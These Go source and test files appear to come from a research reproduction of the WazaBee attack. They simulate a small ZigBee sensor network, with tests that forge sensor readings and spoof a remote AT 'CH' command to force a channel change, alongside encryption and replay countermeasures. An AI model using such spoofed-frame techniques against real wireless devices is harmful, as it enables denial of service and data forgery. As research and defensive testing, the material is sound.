	binary.BigEndian.PutUint64(aux[5:13], c.ExtAddr)

	nonce := ieee802154.Nonce(c.ExtAddr, counter, c.Level)
	secured, err := ieee802154.SecureFrame(c.Key, nonce, c.Level, aux, payload)
	if err != nil {
		return nil, err
	}
	return append(aux, secured...), nil
}

// Open verifies (and decrypts) a payload produced by Seal with the same
// key, enforcing strictly increasing frame counters per source.
func (c *SecurityContext) Open(payload []byte) ([]byte, error) {
	if len(payload) < auxHeaderLen {
		return nil, fmt.Errorf("zigbee: secured payload too short (%d bytes)", len(payload))
	}
	aux := payload[:auxHeaderLen]
	level := ieee802154.SecurityLevel(aux[0])
	counter := binary.LittleEndian.Uint32(aux[1:5])
	source := binary.BigEndian.Uint64(aux[5:13])
	if level.MICLength() == 0 {
		return nil, fmt.Errorf("zigbee: unprotected security level %d", level)
	}

	nonce := ieee802154.Nonce(source, counter, level)
	opened, err := ieee802154.OpenFrame(c.Key, nonce, level, aux, payload[auxHeaderLen:])
	if err != nil {
		return nil, err
	}

	c.mu.Lock()
	defer c.mu.Unlock()
	if last, seen := c.lastSeen[source]; seen && counter <= last {
		return nil, ErrReplay
	}
	c.lastSeen[source] = counter
	return opened, nil
}
