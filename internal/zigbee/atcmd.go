// Package zigbee emulates the small XBee-based domotic network of the
// paper's experimental setup (section VI-A): a sensor end device with
// 16-bit address 0x0063 reporting an integer every two seconds to a
// coordinator 0x0042 on PAN 0x1234, plus the remote AT command mechanism
// the scenario B attack abuses to push a new channel configuration into
// the sensor.
package zigbee

import (
	"errors"
	"fmt"
)

// API frame identifiers of the (simplified) XBee application protocol
// carried inside MAC data frames.
const (
	// FrameRemoteAT is a remote AT command request.
	FrameRemoteAT = 0x17
	// FrameRemoteATResponse acknowledges a remote AT command.
	FrameRemoteATResponse = 0x97
	// FrameSensorData carries a sensor reading.
	FrameSensorData = 0x10
)

// ErrNotATCommand is returned when a payload does not carry a remote AT
// command frame.
var ErrNotATCommand = errors.New("zigbee: payload is not a remote AT command")

// ATCommand is a remote AT command: two command letters plus an optional
// parameter, the XBee remote-configuration mechanism exploited in [28].
type ATCommand struct {
	// FrameID correlates the response with the request.
	FrameID byte
	// Command is the two-letter AT command ("CH" sets the channel).
	Command string
	// Param is the command parameter (new value), empty for queries.
	Param []byte
}

// Encode serialises the command into a MAC payload.
func (c *ATCommand) Encode() ([]byte, error) {
	if len(c.Command) != 2 {
		return nil, fmt.Errorf("zigbee: AT command %q must be two letters", c.Command)
	}
	out := make([]byte, 0, 4+len(c.Param))
	out = append(out, FrameRemoteAT, c.FrameID, c.Command[0], c.Command[1])
	return append(out, c.Param...), nil
}

// ParseATCommand decodes a MAC payload as a remote AT command.
func ParseATCommand(payload []byte) (*ATCommand, error) {
	if len(payload) < 4 || payload[0] != FrameRemoteAT {
		return nil, ErrNotATCommand
	}
	return &ATCommand{
		FrameID: payload[1],
		Command: string(payload[2:4]),
		Param:   append([]byte{}, payload[4:]...),
	}, nil
}

// ATResponse is the acknowledgement to a remote AT command.
type ATResponse struct {
	FrameID byte
	Command string
	// Status is zero on success.
	Status byte
}

// Encode serialises the response into a MAC payload.
func (r *ATResponse) Encode() ([]byte, error) {
	if len(r.Command) != 2 {
		return nil, fmt.Errorf("zigbee: AT command %q must be two letters", r.Command)
	}
	return []byte{FrameRemoteATResponse, r.FrameID, r.Command[0], r.Command[1], r.Status}, nil
}

// ParseATResponse decodes a MAC payload as a remote AT response.
func ParseATResponse(payload []byte) (*ATResponse, error) {
	if len(payload) != 5 || payload[0] != FrameRemoteATResponse {
		return nil, fmt.Errorf("zigbee: payload is not a remote AT response")
	}
	return &ATResponse{
		FrameID: payload[1],
		Command: string(payload[2:4]),
		Status:  payload[4],
	}, nil
}

// SensorPayload encodes a sensor reading for transport.
func SensorPayload(value uint16) []byte {
	return []byte{FrameSensorData, byte(value), byte(value >> 8)}
}

// ParseSensorPayload decodes a sensor reading.
func ParseSensorPayload(payload []byte) (uint16, error) {
	if len(payload) != 3 || payload[0] != FrameSensorData {
		return 0, fmt.Errorf("zigbee: payload is not a sensor reading")
	}
	return uint16(payload[1]) | uint16(payload[2])<<8, nil
}
