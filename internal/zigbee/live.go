package zigbee

import (
	"encoding/json"
	"fmt"
	"net/http"
	"sync"
	"sync/atomic"
	"time"

	"wazabee/internal/dsp"
	vsim "wazabee/internal/zigbee/sim"
)

// Capture couples one attacker-audible waveform with the metadata a
// capture sink needs to persist or serve it: when it was heard, on
// which channel, and its position in the stream.
type Capture struct {
	// IQ is the waveform at the observer's ADC.
	IQ dsp.IQ
	// At is the wall-clock instant the reporting period fired.
	At time.Time
	// Origin is the emission stamp the end-to-end latency pipeline is
	// anchored to: taken with time.Now() at emission so it carries the
	// monotonic clock, making origin→stage distances immune to wall-clock
	// steps. Zero for captures that were not emitted live (replays,
	// records rebuilt from files), which opt them out of the
	// origin-anchored wazabee_latency_* stages.
	Origin time.Time
	// Channel is the 802.15.4 channel the observer's radio is tuned to.
	Channel int
	// Seq numbers the capture within this live run, starting at zero.
	Seq uint64
	// LinkSNRdB is the configured attacker-link signal-to-noise ratio
	// the medium applied to this capture, so a receiver's in-band SNR
	// estimate can be checked against ground truth.
	LinkSNRdB float64
}

// CaptureChunk is one slab of a capture in chunked delivery mode: the
// embedded Capture's IQ holds only the slab, Offset locates it within
// the reporting period's capture and Last marks the capture boundary —
// the point where a streaming receiver flushes its partial state.
type CaptureChunk struct {
	Capture
	// Offset is the slab's sample offset within its capture.
	Offset int
	// Last reports that this slab ends the capture.
	Last bool
}

// LiveNetwork runs the victim network in real time. It is a thin
// real-time pacer over the discrete-event core in internal/zigbee/sim:
// the reporting loop is a recurring scheduler event (tick → emit →
// reschedule) and a sim.Pacer sleeps until each event's wall deadline —
// real-time operation is a pacing policy over the same event queue the
// virtual-time simulator drives, not a separate code path.
//
// While a LiveNetwork is running it owns its Simulation; interact with
// the simulation again only after Shutdown returns.
type LiveNetwork struct {
	sim            *Simulation
	interval       time.Duration
	captureChannel int
	chunk          int

	sched *vsim.Scheduler
	seq   uint64

	// Pacer-path observability: the same wazabee_sim_heap_* gauges the
	// virtual-time driver publishes, labelled driver="live", plus an
	// atomically published queue snapshot for the /debug/sim endpoint.
	heapGauges *vsim.HeapGauges
	schedStats atomic.Pointer[SchedulerStats]

	captures chan Capture
	chunks   chan CaptureChunk
	stop     chan struct{}
	done     chan struct{}
	stopOnce sync.Once

	mu  sync.Mutex
	err error
}

// StartLive spawns the network's reporting loop. captureChannel selects
// where the observer's radio is tuned. The returned LiveNetwork must be
// stopped with Shutdown.
func StartLive(sim *Simulation, interval time.Duration, captureChannel int) (*LiveNetwork, error) {
	return startLive(sim, interval, captureChannel, 0, nil)
}

// StartLiveChunked is the chunked delivery mode for streaming
// receivers: instead of one whole-period capture per tick, the network
// emits consecutive slabs of at most chunk samples on Chunks(), the
// final slab of each capture flagged Last. Captures() stays empty in
// this mode.
func StartLiveChunked(sim *Simulation, interval time.Duration, captureChannel, chunk int) (*LiveNetwork, error) {
	if chunk <= 0 {
		return nil, fmt.Errorf("zigbee: chunk size %d <= 0", chunk)
	}
	return startLive(sim, interval, captureChannel, chunk, nil)
}

// startLive validates and launches the paced event loop. clock nil uses
// the system wall clock; tests inject a sim.ManualClock to drive the
// pacing deterministically.
func startLive(s *Simulation, interval time.Duration, captureChannel, chunk int, clock vsim.WallClock) (*LiveNetwork, error) {
	if s == nil {
		return nil, fmt.Errorf("zigbee: nil simulation")
	}
	if interval <= 0 {
		return nil, fmt.Errorf("zigbee: non-positive reporting interval %v", interval)
	}
	if _, err := channelFreq(captureChannel); err != nil {
		return nil, err
	}
	l := &LiveNetwork{
		sim:            s,
		interval:       interval,
		captureChannel: captureChannel,
		chunk:          chunk,
		sched:          vsim.NewScheduler(),
		captures:       make(chan Capture, 1),
		chunks:         make(chan CaptureChunk, 1),
		stop:           make(chan struct{}),
		done:           make(chan struct{}),
		heapGauges:     vsim.NewHeapGauges(nil, "live"),
	}
	l.schedStats.Store(&SchedulerStats{})
	l.sched.After(interval, l.tick)
	go l.run(clock)
	return l, nil
}

// Captures streams one annotated capture per sensor reporting period.
// The channel closes when the network shuts down (or hits an error —
// check Err).
func (l *LiveNetwork) Captures() <-chan Capture {
	return l.captures
}

// Chunks streams capture slabs when the network was started with
// StartLiveChunked; it stays empty (and closes on shutdown) otherwise.
func (l *LiveNetwork) Chunks() <-chan CaptureChunk {
	return l.chunks
}

// Err returns the first error the reporting loop encountered, if any.
func (l *LiveNetwork) Err() error {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.err
}

// Shutdown stops the reporting loop and waits for it to exit. It is
// safe to call multiple times.
func (l *LiveNetwork) Shutdown() {
	l.stopOnce.Do(func() { close(l.stop) })
	<-l.done
}

// run paces the event queue against the wall clock. The loop ends when
// the queue drains — which happens exactly when a tick declines to
// reschedule itself (error or stop) — or when stop interrupts a sleep.
func (l *LiveNetwork) run(clock vsim.WallClock) {
	defer close(l.done)
	defer close(l.captures)
	defer close(l.chunks)
	p := &vsim.Pacer{Sched: l.sched, Clock: clock}
	p.Run(l.stop)
}

// tick is the recurring reporting event: step the simulation, emit the
// capture, schedule the next period. Returning without rescheduling
// drains the queue and ends the run.
func (l *LiveNetwork) tick() {
	select {
	case <-l.stop:
		return
	default:
	}
	sig, err := l.sim.Step(l.captureChannel)
	if err != nil {
		l.mu.Lock()
		l.err = err
		l.mu.Unlock()
		return
	}
	now := time.Now()
	capture := Capture{
		IQ:        sig,
		At:        now,
		Origin:    now,
		Channel:   l.captureChannel,
		Seq:       l.seq,
		LinkSNRdB: l.sim.AttackerLink.SNRdB,
	}
	l.seq++
	l.publishSchedStats()
	if l.chunk > 0 {
		if !l.emitChunks(capture) {
			return
		}
	} else {
		select {
		case l.captures <- capture:
		case <-l.stop:
			return
		}
	}
	l.sched.After(l.interval, l.tick)
}

// SchedulerStats is a point-in-time snapshot of the pacer's event
// queue — the live-path counterpart of the virtual driver's heap
// telemetry.
type SchedulerStats struct {
	Pending  int           `json:"pending"`
	MaxDepth int           `json:"max_depth"`
	Executed uint64        `json:"executed"`
	MaxLag   time.Duration `json:"max_lag_ns"`
	Periods  uint64        `json:"periods"`
}

// publishSchedStats refreshes the heap gauges and the snapshot from the
// event-loop goroutine, once per reporting period.
func (l *LiveNetwork) publishSchedStats() {
	l.heapGauges.Publish(l.sched)
	l.schedStats.Store(&SchedulerStats{
		Pending:  l.sched.Len(),
		MaxDepth: l.sched.MaxDepth(),
		Executed: l.sched.Executed(),
		MaxLag:   l.sched.MaxLag(),
		Periods:  l.seq,
	})
}

// SchedulerStats returns the queue snapshot published at the last
// reporting period. Safe to call from any goroutine.
func (l *LiveNetwork) SchedulerStats() SchedulerStats {
	return *l.schedStats.Load()
}

// DebugHandler serves the scheduler snapshot as JSON — wazabeed mounts
// it at /debug/sim so a live run exposes the same observability surface
// as the virtual-time simulator.
func (l *LiveNetwork) DebugHandler() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		enc := json.NewEncoder(w)
		enc.SetIndent("", "  ")
		enc.Encode(l.SchedulerStats())
	})
}

// emitChunks slices one capture into chunk-sized slabs and streams them
// on the chunks channel; it reports false when shutdown interrupted the
// walk.
func (l *LiveNetwork) emitChunks(capture Capture) bool {
	sig := capture.IQ
	for start := 0; start == 0 || start < len(sig); start += l.chunk {
		end := start + l.chunk
		if end > len(sig) {
			end = len(sig)
		}
		cc := CaptureChunk{
			Capture: capture,
			Offset:  start,
			Last:    end == len(sig),
		}
		cc.IQ = sig[start:end]
		select {
		case l.chunks <- cc:
		case <-l.stop:
			return false
		}
	}
	return true
}
