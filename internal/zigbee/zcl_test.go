package zigbee

import (
	"bytes"
	"testing"
)

func TestZCLFrameRoundTrip(t *testing.T) {
	code := uint16(0x1037)
	tests := []struct {
		name string
		give *ZCLFrame
	}{
		{name: "cluster specific", give: &ZCLFrame{
			Type: ZCLClusterSpecific, Seq: 7, Command: OnOffCmdToggle,
		}},
		{name: "profile wide with payload", give: &ZCLFrame{
			Type: ZCLProfileWide, Seq: 1, Command: ZCLCmdReportAttributes,
			Payload: []byte{1, 2, 3},
		}},
		{name: "manufacturer specific", give: &ZCLFrame{
			Type: ZCLClusterSpecific, ManufacturerCode: &code,
			Direction: true, DisableDefaultResponse: true,
			Seq: 9, Command: 0x42, Payload: []byte{0xff},
		}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			raw, err := tt.give.Encode()
			if err != nil {
				t.Fatal(err)
			}
			got, err := ParseZCLFrame(raw)
			if err != nil {
				t.Fatal(err)
			}
			if got.Type != tt.give.Type || got.Seq != tt.give.Seq || got.Command != tt.give.Command {
				t.Errorf("header = %+v", got)
			}
			if got.Direction != tt.give.Direction || got.DisableDefaultResponse != tt.give.DisableDefaultResponse {
				t.Errorf("flags = %+v", got)
			}
			if (got.ManufacturerCode == nil) != (tt.give.ManufacturerCode == nil) {
				t.Fatal("manufacturer presence mismatch")
			}
			if got.ManufacturerCode != nil && *got.ManufacturerCode != *tt.give.ManufacturerCode {
				t.Errorf("manufacturer = %#x", *got.ManufacturerCode)
			}
			if !bytes.Equal(got.Payload, tt.give.Payload) {
				t.Error("payload mismatch")
			}
		})
	}
}

func TestZCLFrameErrors(t *testing.T) {
	if _, err := (&ZCLFrame{Type: 3}).Encode(); err == nil {
		t.Error("expected error for invalid type")
	}
	if _, err := ParseZCLFrame([]byte{1}); err == nil {
		t.Error("expected error for short frame")
	}
	if _, err := ParseZCLFrame([]byte{0x04, 0x37}); err == nil {
		t.Error("expected error for truncated manufacturer code")
	}
	if _, err := ParseZCLFrame([]byte{0x03, 1, 2}); err == nil {
		t.Error("expected error for invalid parsed type")
	}
}

func TestOnOffCommandStack(t *testing.T) {
	raw, err := BuildOnOffCommand(1, 2, 3, 0x4444, 0x0b0b, OnOffCmdToggle)
	if err != nil {
		t.Fatal(err)
	}
	nwk, aps, err := ParseZigbeeDataFrame(raw)
	if err != nil {
		t.Fatal(err)
	}
	if aps.ClusterID != ClusterOnOff || nwk.DestAddr != 0x4444 {
		t.Errorf("stack headers: nwk=%+v aps=%+v", nwk, aps)
	}
	zcl, err := ParseZCLFrame(aps.Payload)
	if err != nil {
		t.Fatal(err)
	}
	if zcl.Type != ZCLClusterSpecific || zcl.Command != OnOffCmdToggle {
		t.Errorf("ZCL = %+v", zcl)
	}
	if _, err := BuildOnOffCommand(1, 2, 3, 1, 2, 9); err == nil {
		t.Error("expected error for invalid on/off command")
	}
}

func TestTemperatureReportStack(t *testing.T) {
	raw, err := BuildTemperatureReport(5, 6, 7, 0x0042, 0x0063, 2317) // 23.17 °C
	if err != nil {
		t.Fatal(err)
	}
	_, aps, err := ParseZigbeeDataFrame(raw)
	if err != nil {
		t.Fatal(err)
	}
	if aps.ClusterID != ClusterTemperature {
		t.Errorf("cluster = %#x", aps.ClusterID)
	}
	zcl, err := ParseZCLFrame(aps.Payload)
	if err != nil {
		t.Fatal(err)
	}
	got, err := ParseTemperatureReport(zcl)
	if err != nil {
		t.Fatal(err)
	}
	if got != 2317 {
		t.Errorf("temperature = %d, want 2317", got)
	}
	// Negative temperatures survive the int16 round trip.
	raw, err = BuildTemperatureReport(5, 6, 7, 1, 2, -450)
	if err != nil {
		t.Fatal(err)
	}
	_, aps, err = ParseZigbeeDataFrame(raw)
	if err != nil {
		t.Fatal(err)
	}
	zcl, err = ParseZCLFrame(aps.Payload)
	if err != nil {
		t.Fatal(err)
	}
	if got, err := ParseTemperatureReport(zcl); err != nil || got != -450 {
		t.Errorf("negative temperature = %d, %v", got, err)
	}
}

func TestParseTemperatureReportErrors(t *testing.T) {
	if _, err := ParseTemperatureReport(nil); err == nil {
		t.Error("expected error for nil frame")
	}
	if _, err := ParseTemperatureReport(&ZCLFrame{Command: OnOffCmdOn}); err == nil {
		t.Error("expected error for non-report command")
	}
	if _, err := ParseTemperatureReport(&ZCLFrame{Command: ZCLCmdReportAttributes, Payload: []byte{1}}); err == nil {
		t.Error("expected error for malformed payload")
	}
	if _, err := ParseTemperatureReport(&ZCLFrame{
		Command: ZCLCmdReportAttributes,
		Payload: []byte{0x01, 0x00, ZCLTypeInt16, 0, 0},
	}); err == nil {
		t.Error("expected error for wrong attribute id")
	}
}
