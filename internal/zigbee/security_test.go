package zigbee

import (
	"bytes"
	"errors"
	"testing"

	"wazabee/internal/ieee802154"
)

var testNetworkKey = []byte("sixteen byte key")

func securedPair(t *testing.T) (*Sensor, *Coordinator) {
	t.Helper()
	sensor := NewSensor()
	coord := NewCoordinator()
	sctx, err := NewSecurityContext(testNetworkKey, DefaultSensorExt, ieee802154.SecEncMIC64)
	if err != nil {
		t.Fatal(err)
	}
	cctx, err := NewSecurityContext(testNetworkKey, DefaultCoordinatorExt, ieee802154.SecEncMIC64)
	if err != nil {
		t.Fatal(err)
	}
	sensor.Security = sctx
	coord.Security = cctx
	return sensor, coord
}

func TestNewSecurityContextValidation(t *testing.T) {
	if _, err := NewSecurityContext([]byte("short"), 1, ieee802154.SecEncMIC32); err == nil {
		t.Error("expected error for short key")
	}
	if _, err := NewSecurityContext(testNetworkKey, 1, ieee802154.SecNone); err == nil {
		t.Error("expected error for SecNone level")
	}
}

func TestSealOpenRoundTrip(t *testing.T) {
	a, err := NewSecurityContext(testNetworkKey, 0x1111, ieee802154.SecEncMIC32)
	if err != nil {
		t.Fatal(err)
	}
	b, err := NewSecurityContext(testNetworkKey, 0x2222, ieee802154.SecEncMIC32)
	if err != nil {
		t.Fatal(err)
	}
	payload := []byte("reading 23")
	sealed, err := a.Seal(payload)
	if err != nil {
		t.Fatal(err)
	}
	opened, err := b.Open(sealed)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(opened, payload) {
		t.Errorf("opened = %q, want %q", opened, payload)
	}
}

func TestOpenRejectsReplay(t *testing.T) {
	a, err := NewSecurityContext(testNetworkKey, 0x1111, ieee802154.SecEncMIC32)
	if err != nil {
		t.Fatal(err)
	}
	b, err := NewSecurityContext(testNetworkKey, 0x2222, ieee802154.SecEncMIC32)
	if err != nil {
		t.Fatal(err)
	}
	sealed, err := a.Seal([]byte("once"))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := b.Open(sealed); err != nil {
		t.Fatal(err)
	}
	if _, err := b.Open(sealed); !errors.Is(err, ErrReplay) {
		t.Errorf("replay returned %v, want ErrReplay", err)
	}
}

func TestOpenRejectsGarbage(t *testing.T) {
	b, err := NewSecurityContext(testNetworkKey, 0x2222, ieee802154.SecEncMIC32)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := b.Open([]byte{1, 2, 3}); err == nil {
		t.Error("expected error for short payload")
	}
	bad := make([]byte, auxHeaderLen+8)
	if _, err := b.Open(bad); err == nil {
		t.Error("expected error for unprotected level in aux header")
	}
}

func TestSecuredSensorToCoordinator(t *testing.T) {
	sensor, coord := securedPair(t)
	frame, err := sensor.NextDataFrame()
	if err != nil {
		t.Fatal(err)
	}
	if !frame.Security {
		t.Fatal("secured sensor did not set the security bit")
	}
	if bytes.Contains(frame.Payload, SensorPayload(1)) {
		t.Error("secured payload carries the cleartext reading")
	}
	reply, err := coord.Handle(frame)
	if err != nil {
		t.Fatal(err)
	}
	if len(coord.Readings) != 1 || coord.Readings[0].Value != 1 {
		t.Errorf("secured reading not recorded: %+v", coord.Readings)
	}
	if reply == nil || reply.Type != ieee802154.FrameAck {
		t.Error("secured data frame not acknowledged")
	}
}

func TestSecuredCoordinatorDropsForgedData(t *testing.T) {
	_, coord := securedPair(t)
	// The WazaBee attacker forges a cleartext reading (no key).
	forged := ieee802154.NewDataFrame(9, coord.PAN, coord.Addr, DefaultSensor, SensorPayload(6666), true)
	reply, err := coord.Handle(forged)
	if err != nil {
		t.Fatal(err)
	}
	if reply != nil || len(coord.Readings) != 0 {
		t.Error("unauthenticated forged reading accepted on a secured PAN")
	}
	// Even with the security bit set but a garbage payload.
	forged.Security = true
	reply, err = coord.Handle(forged)
	if err != nil {
		t.Fatal(err)
	}
	if reply != nil || len(coord.Readings) != 0 {
		t.Error("forged secured-looking reading accepted")
	}
}

func TestSecuredSensorDropsForgedATCommand(t *testing.T) {
	sensor, _ := securedPair(t)
	cmdPayload, err := (&ATCommand{FrameID: 1, Command: "CH", Param: []byte{20}}).Encode()
	if err != nil {
		t.Fatal(err)
	}
	forged := ieee802154.NewDataFrame(1, sensor.PAN, sensor.Addr, sensor.CoordAddr, cmdPayload, false)
	reply, err := sensor.Handle(forged)
	if err != nil {
		t.Fatal(err)
	}
	if reply != nil {
		t.Error("unauthenticated AT command answered")
	}
	if sensor.Channel != DefaultChannel {
		t.Error("unauthenticated AT command applied — the DoS countermeasure failed")
	}
}

func TestSecuredSensorAcceptsAuthenticATCommand(t *testing.T) {
	sensor, coord := securedPair(t)
	cmdPayload, err := (&ATCommand{FrameID: 2, Command: "CH", Param: []byte{20}}).Encode()
	if err != nil {
		t.Fatal(err)
	}
	sealed, err := coord.Security.Seal(cmdPayload)
	if err != nil {
		t.Fatal(err)
	}
	frame := ieee802154.NewDataFrame(2, sensor.PAN, sensor.Addr, sensor.CoordAddr, sealed, false)
	frame.Security = true
	reply, err := sensor.Handle(frame)
	if err != nil {
		t.Fatal(err)
	}
	if sensor.Channel != 20 {
		t.Errorf("authentic AT command not applied (channel %d)", sensor.Channel)
	}
	if reply == nil || !reply.Security {
		t.Error("AT response missing or unsecured")
	}
	opened, err := coord.Security.Open(reply.Payload)
	if err != nil {
		t.Fatal(err)
	}
	resp, err := ParseATResponse(opened)
	if err != nil {
		t.Fatal(err)
	}
	if resp.Status != 0 {
		t.Errorf("AT response status = %d", resp.Status)
	}
}

func TestSimulationSecure(t *testing.T) {
	sim, err := NewSimulation(21, 8, 25)
	if err != nil {
		t.Fatal(err)
	}
	if err := sim.Secure(testNetworkKey, ieee802154.SecEncMIC32); err != nil {
		t.Fatal(err)
	}
	// The secured network still operates: the coordinator records the
	// sensor's sealed readings.
	if _, err := sim.Step(DefaultChannel); err != nil {
		t.Fatal(err)
	}
	if len(sim.Coordinator.Readings) != 1 {
		t.Fatalf("secured network recorded %d readings", len(sim.Coordinator.Readings))
	}
	if err := sim.Secure([]byte("short"), ieee802154.SecEncMIC32); err == nil {
		t.Error("expected error for bad key")
	}
}
