package zigbee

import (
	"bytes"
	"errors"
	"testing"

	"wazabee/internal/ieee802154"
)

func TestATCommandRoundTrip(t *testing.T) {
	cmd := &ATCommand{FrameID: 7, Command: "CH", Param: []byte{0x14}}
	payload, err := cmd.Encode()
	if err != nil {
		t.Fatal(err)
	}
	got, err := ParseATCommand(payload)
	if err != nil {
		t.Fatal(err)
	}
	if got.FrameID != 7 || got.Command != "CH" || !bytes.Equal(got.Param, []byte{0x14}) {
		t.Errorf("ParseATCommand = %+v", got)
	}
}

func TestATCommandValidation(t *testing.T) {
	if _, err := (&ATCommand{Command: "CHX"}).Encode(); err == nil {
		t.Error("expected error for three-letter command")
	}
	if _, err := ParseATCommand([]byte{0x10, 1, 'C', 'H'}); !errors.Is(err, ErrNotATCommand) {
		t.Error("expected ErrNotATCommand for wrong frame type")
	}
	if _, err := ParseATCommand([]byte{0x17}); !errors.Is(err, ErrNotATCommand) {
		t.Error("expected ErrNotATCommand for truncated payload")
	}
}

func TestATResponseRoundTrip(t *testing.T) {
	resp := &ATResponse{FrameID: 3, Command: "CH", Status: 0}
	payload, err := resp.Encode()
	if err != nil {
		t.Fatal(err)
	}
	got, err := ParseATResponse(payload)
	if err != nil {
		t.Fatal(err)
	}
	if got.FrameID != 3 || got.Command != "CH" || got.Status != 0 {
		t.Errorf("ParseATResponse = %+v", got)
	}
	if _, err := ParseATResponse([]byte{1, 2}); err == nil {
		t.Error("expected error for short payload")
	}
	if _, err := (&ATResponse{Command: "C"}).Encode(); err == nil {
		t.Error("expected error for short command")
	}
}

func TestSensorPayloadRoundTrip(t *testing.T) {
	p := SensorPayload(0xbeef)
	v, err := ParseSensorPayload(p)
	if err != nil {
		t.Fatal(err)
	}
	if v != 0xbeef {
		t.Errorf("value = %#x, want 0xbeef", v)
	}
	if _, err := ParseSensorPayload([]byte{0x99, 1, 2}); err == nil {
		t.Error("expected error for wrong frame type")
	}
}

func TestSensorPeriodicReadings(t *testing.T) {
	s := NewSensor()
	f1, err := s.NextDataFrame()
	if err != nil {
		t.Fatal(err)
	}
	f2, err := s.NextDataFrame()
	if err != nil {
		t.Fatal(err)
	}
	v1, err := ParseSensorPayload(f1.Payload)
	if err != nil {
		t.Fatal(err)
	}
	v2, err := ParseSensorPayload(f2.Payload)
	if err != nil {
		t.Fatal(err)
	}
	if v2 != v1+1 {
		t.Errorf("readings %d then %d, want increment", v1, v2)
	}
	if f2.Seq != f1.Seq+1 {
		t.Error("sequence numbers must increment")
	}
	if f1.DestAddr != DefaultCoordinator || f1.SrcAddr != DefaultSensor || f1.DestPAN != DefaultPAN {
		t.Errorf("addressing = %+v", f1)
	}
	if !f1.AckRequest {
		t.Error("sensor data must request acknowledgement")
	}
}

func TestSensorAppliesChannelChange(t *testing.T) {
	s := NewSensor()
	cmdPayload, err := (&ATCommand{FrameID: 9, Command: "CH", Param: []byte{20}}).Encode()
	if err != nil {
		t.Fatal(err)
	}
	// Spoofed as coming from the coordinator, as the attack does.
	frame := ieee802154.NewDataFrame(1, s.PAN, s.Addr, s.CoordAddr, cmdPayload, false)
	reply, err := s.Handle(frame)
	if err != nil {
		t.Fatal(err)
	}
	if s.Channel != 20 {
		t.Errorf("sensor channel = %d, want 20", s.Channel)
	}
	if reply == nil {
		t.Fatal("expected AT response")
	}
	resp, err := ParseATResponse(reply.Payload)
	if err != nil {
		t.Fatal(err)
	}
	if resp.Status != 0 || resp.FrameID != 9 {
		t.Errorf("AT response = %+v", resp)
	}
}

func TestSensorRejectsBadChannelChange(t *testing.T) {
	s := NewSensor()
	cmdPayload, _ := (&ATCommand{FrameID: 1, Command: "CH", Param: []byte{99}}).Encode()
	frame := ieee802154.NewDataFrame(1, s.PAN, s.Addr, s.CoordAddr, cmdPayload, false)
	reply, err := s.Handle(frame)
	if err != nil {
		t.Fatal(err)
	}
	if s.Channel != DefaultChannel {
		t.Error("invalid channel must not be applied")
	}
	resp, err := ParseATResponse(reply.Payload)
	if err != nil {
		t.Fatal(err)
	}
	if resp.Status == 0 {
		t.Error("invalid parameter must report a non-zero status")
	}
}

func TestSensorIgnoresUnrelatedFrames(t *testing.T) {
	s := NewSensor()
	other := ieee802154.NewDataFrame(1, s.PAN, 0x9999, s.CoordAddr, []byte{1}, false)
	reply, err := s.Handle(other)
	if err != nil {
		t.Fatal(err)
	}
	if reply != nil {
		t.Error("sensor replied to a frame for another node")
	}
	if _, err := s.Handle(nil); err == nil {
		t.Error("expected error for nil frame")
	}
	unsupported, _ := (&ATCommand{FrameID: 1, Command: "ID"}).Encode()
	frame := ieee802154.NewDataFrame(1, s.PAN, s.Addr, s.CoordAddr, unsupported, false)
	reply, err = s.Handle(frame)
	if err != nil {
		t.Fatal(err)
	}
	resp, err := ParseATResponse(reply.Payload)
	if err != nil {
		t.Fatal(err)
	}
	if resp.Status == 0 {
		t.Error("unsupported command must report a non-zero status")
	}
}

func TestCoordinatorRecordsAndAcks(t *testing.T) {
	c := NewCoordinator()
	frame := ieee802154.NewDataFrame(5, c.PAN, c.Addr, DefaultSensor, SensorPayload(321), true)
	reply, err := c.Handle(frame)
	if err != nil {
		t.Fatal(err)
	}
	if len(c.Readings) != 1 || c.Readings[0].Value != 321 || c.Readings[0].Src != DefaultSensor {
		t.Errorf("readings = %+v", c.Readings)
	}
	if reply == nil || reply.Type != ieee802154.FrameAck || reply.Seq != 5 {
		t.Errorf("reply = %+v, want ACK seq 5", reply)
	}
	last, ok := c.LastReading()
	if !ok || last.Value != 321 {
		t.Errorf("LastReading = %+v, %v", last, ok)
	}
}

func TestCoordinatorAnswersBeaconRequest(t *testing.T) {
	c := NewCoordinator()
	reply, err := c.Handle(ieee802154.NewBeaconRequest(1))
	if err != nil {
		t.Fatal(err)
	}
	if reply == nil || reply.Type != ieee802154.FrameBeacon {
		t.Fatalf("reply = %+v, want beacon", reply)
	}
	if reply.SrcPAN != DefaultPAN || reply.SrcAddr != DefaultCoordinator {
		t.Errorf("beacon source = %#x/%#x", reply.SrcPAN, reply.SrcAddr)
	}
}

func TestCoordinatorIgnoresForeignTraffic(t *testing.T) {
	c := NewCoordinator()
	foreign := ieee802154.NewDataFrame(1, 0x9999, c.Addr, 2, SensorPayload(1), true)
	reply, err := c.Handle(foreign)
	if err != nil {
		t.Fatal(err)
	}
	if reply != nil || len(c.Readings) != 0 {
		t.Error("coordinator reacted to a foreign PAN")
	}
	if _, ok := c.LastReading(); ok {
		t.Error("LastReading on empty log reported ok")
	}
	if _, err := c.Handle(nil); err == nil {
		t.Error("expected error for nil frame")
	}
}

func TestSimulationStepDeliversToCoordinatorAndAttacker(t *testing.T) {
	sim, err := NewSimulation(1, 8, 30)
	if err != nil {
		t.Fatal(err)
	}
	capture, err := sim.Step(DefaultChannel)
	if err != nil {
		t.Fatal(err)
	}
	// Coordinator recorded the reading.
	if len(sim.Coordinator.Readings) != 1 {
		t.Fatalf("coordinator readings = %d, want 1", len(sim.Coordinator.Readings))
	}
	// Attacker's capture contains the frame (legit PHY can decode it).
	dem, err := sim.PHY.Demodulate(capture)
	if err != nil {
		t.Fatal(err)
	}
	frame, err := ieee802154.ParseMACFrame(dem.PPDU.PSDU)
	if err != nil {
		t.Fatal(err)
	}
	if frame.SrcAddr != DefaultSensor {
		t.Errorf("captured source = %#x, want sensor", frame.SrcAddr)
	}
}

func TestSimulationStepOffChannelHearsNothing(t *testing.T) {
	sim, err := NewSimulation(2, 8, 30)
